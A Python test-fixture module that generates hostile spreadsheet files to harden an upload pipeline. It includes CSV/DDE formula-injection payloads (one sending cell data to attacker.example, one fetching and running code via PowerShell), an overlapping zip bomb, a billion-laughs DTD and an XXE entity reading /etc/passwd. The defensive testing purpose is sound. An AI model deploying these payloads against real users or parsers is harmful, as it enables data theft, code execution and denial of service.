"""Builders of hostile and damaged return files, made by code rather than kept as binaries.

Each builder starts from what the project itself generates (a filled template, the
documented CSV layout) and does to it what a careless program or an attacker would:
cut it short, rename it, pack a bomb into it, rewrite a few bytes of its XML, or
lie in its zip directory. ``tests/test_hostile_files.py`` runs every such file
through the real pipeline; the builders here only make bytes.
"""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree as ET  # our own template's XML, not an untrusted file
from xml.sax.saxutils import escape

from topcop.returns.inspect import OLE2_MAGIC

_NS = {
    "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "p": "http://schemas.openxmlformats.org/package/2006/relationships",
}

# Formula and DDE injections as CSV-injection advisories list them: each starts with
# one of = + - @ | and would run something if a spreadsheet evaluated it.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc.exe",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/C powershell IEX(wget attacker.example/s)'!A0",
)


# --- zip members -----------------------------------------------------------------


def rezip(
    src: Path,
    dst: Path,
    *,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    replace: dict[str, bytes] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
) -> Path:
    """Copy a workbook's members, adding, dropping, replacing or editing some."""
    add, replace, edit = add or {}, replace or {}, edit or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = replace.get(info.filename, zin.read(info))
            if info.filename in edit:
                data = edit[info.filename](data)
            zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def sheet_part(workbook: Path, sheet: str) -> str:
    """The zip member that holds ``sheet``, through the workbook's relationships."""
    with zipfile.ZipFile(workbook) as z:
        book = ET.fromstring(z.read("xl/workbook.xml"))
        rels = ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))
    rid = next(
        s.get(f"{{{_NS['r']}}}id")
        for s in book.iterfind("m:sheets/m:sheet", _NS)
        if s.get("name") == sheet
    )
    target = next(
        r.get("Target") for r in rels.iterfind("p:Relationship", _NS) if r.get("Id") == rid
    )
    return target.lstrip("/") if target.startswith("/") else f"xl/{target}"


def edit_sheet(src: Path, dst: Path, sheet: str, edit: Callable[[str], str]) -> Path:
    """Rewrite one sheet's XML as text."""
    part = sheet_part(src, sheet)
    return rezip(src, dst, edit={part: lambda data: edit(data.decode("utf-8")).encode("utf-8")})


def replace_cell(xml: str, ref: str, cell_xml: str) -> str:
    """Put ``cell_xml`` where the cell ``ref`` is in a sheet's XML."""
    pattern = re.compile(rf'<c r="{ref}"(?: [^>]*)?(?:/>|>.*?</c>)')
    assert pattern.search(xml), f"no cell {ref} in the sheet"
    return pattern.sub(lambda _: cell_xml, xml, count=1)


def set_sheet_state(xml: bytes, sheet: str, state: str) -> bytes:
    """workbook.xml with ``sheet`` made visible, hidden or veryHidden."""
    text = xml.decode("utf-8")
    tag = re.search(rf'<sheet\b[^>]*\bname="{re.escape(sheet)}"[^>]*>', text)
    assert tag, f"no sheet {sheet} in workbook.xml"
    new = re.sub(r'\sstate="[^"]*"', "", tag[0]).replace("<sheet ", f'<sheet state="{state}" ', 1)
    return (text[: tag.start()] + new + text[tag.end() :]).encode("utf-8")


def replace_tokens(src: Path, dst: Path, texts: dict[str, str]) -> Path:
    """Swap placeholder texts for others in every sheet, as inline strings stay text.

    openpyxl writes a string starting with '=' as a formula; a focal point's text cell
    holding such a string is text. Writing a placeholder and swapping it in the XML
    gives the file Excel would save for a text-formatted cell.
    """

    def swap(data: bytes) -> bytes:
        xml = data.decode("utf-8")
        for token, text in texts.items():
            xml = xml.replace(f">{token}<", f">{escape(text)}<")
        return xml.encode("utf-8")

    with zipfile.ZipFile(src) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
    return rezip(src, dst, edit=dict.fromkeys(sheets, swap))


# --- lying in the zip directory --------------------------------------------------


def patch_members(path: Path, patch: Callable[[str, dict[str, int]], dict[str, int]]) -> Path:
    """Rewrite flags, checksum and sizes of every member, in local headers and directory alike."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        infos = {i.filename: i for i in z.infolist()}
        start = z.start_dir
    for info in infos.values():  # local headers: flags at 6, crc 14, sizes 18 and 22
        fields = patch(
            info.filename,
            {
                "flags": info.flag_bits,
                "crc": info.CRC,
                "compressed": info.compress_size,
                "size": info.file_size,
            },
        )
        at = info.header_offset
        struct.pack_into("<H", data, at + 6, fields["flags"])
        struct.pack_into("<III", data, at + 14, fields["crc"], fields["compressed"], fields["size"])
    at = start
    while data[at : at + 4] == b"PK\x01\x02":  # directory: flags at 8, crc 16, sizes 20 and 24
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, at + 28)
        name = bytes(data[at + 46 : at + 46 + name_length]).decode("utf-8")
        info = infos[name]
        fields = patch(
            name,
            {
                "flags": info.flag_bits,
                "crc": info.CRC,
                "compressed": info.compress_size,
                "size": info.file_size,
            },
        )
        struct.pack_into("<H", data, at + 8, fields["flags"])
        struct.pack_into("<III", data, at + 16, fields["crc"], fields["compressed"], fields["size"])
        at += 46 + name_length + extra_length + comment_length
    path.write_bytes(bytes(data))
    return path


def overlapping_bomb(path: Path, entries: int, kernel_bytes: int) -> Path:
    """Many directory entries that all point at one packed kernel (Fifield's overlapping bomb).

    Each entry unpacks the same ``kernel_bytes``; the zip is a few kB, its declared total
    ``entries * kernel_bytes``.
    """
    kernel = bytes(kernel_bytes)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(kernel) + packer.flush()
    crc = zlib.crc32(kernel)
    first = b"xl/media/kernel.bin"
    local = (
        struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            kernel_bytes,
            len(first),
            0,
        )
        + first
        + packed
    )
    directory = b""
    for i in range(entries):
        name = f"xl/media/image{i}.bin".encode()
        directory += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(packed),
                kernel_bytes,
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), len(local), 0
    )
    path.write_bytes(local + directory + end)
    return path


def zeros_member(path: Path, name: str, size: int) -> None:
    """Append a member of ``size`` zero bytes, packed as it is written (a few MB a second)."""
    block = bytes(1 << 20)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z, z.open(name, "w") as f:
        for _ in range(size // len(block)):
            f.write(block)


# --- other kinds of file ---------------------------------------------------------


def ole2(*streams: str) -> bytes:
    """The start of an OLE2 compound file whose directory names ``streams``.

    Enough for what is checked (magic bytes and UTF-16 stream names): the shape of an
    Excel 97-2003 workbook ("Workbook") or of a password-encrypted .xlsx
    ("EncryptionInfo", "EncryptedPackage").
    """
    directory = b"".join(
        s.encode("utf-16-le") + bytes(2) + bytes(128 - 2 * len(s) - 2) for s in streams
    )
    return OLE2_MAGIC + bytes(504) + directory + bytes(1024)


def png() -> bytes:
    """A valid one-pixel PNG image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def ods(path: Path) -> Path:
    """An OpenDocument spreadsheet: a zip whose first, stored member names its type."""
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", "<manifest:manifest/>", zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
    return path


def docx(path: Path) -> Path:
    """A Word document: a valid Office zip without a workbook in it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return path


def billion_laughs(levels: int = 10) -> str:
    """A DTD whose last entity expands to 10**levels copies of 'lol'."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels)
    ]
    return f"<!DOCTYPE worksheet [{''.join(entities)}]>"


XXE = '<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def sheet_rows(rows: int, first: int = 2) -> str:
    """``rows`` minimal rows of sheet data, one text cell each, numbered from ``first``."""
    return "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x</t></is></c></row>'
        for r in range(first, first + rows)
    )
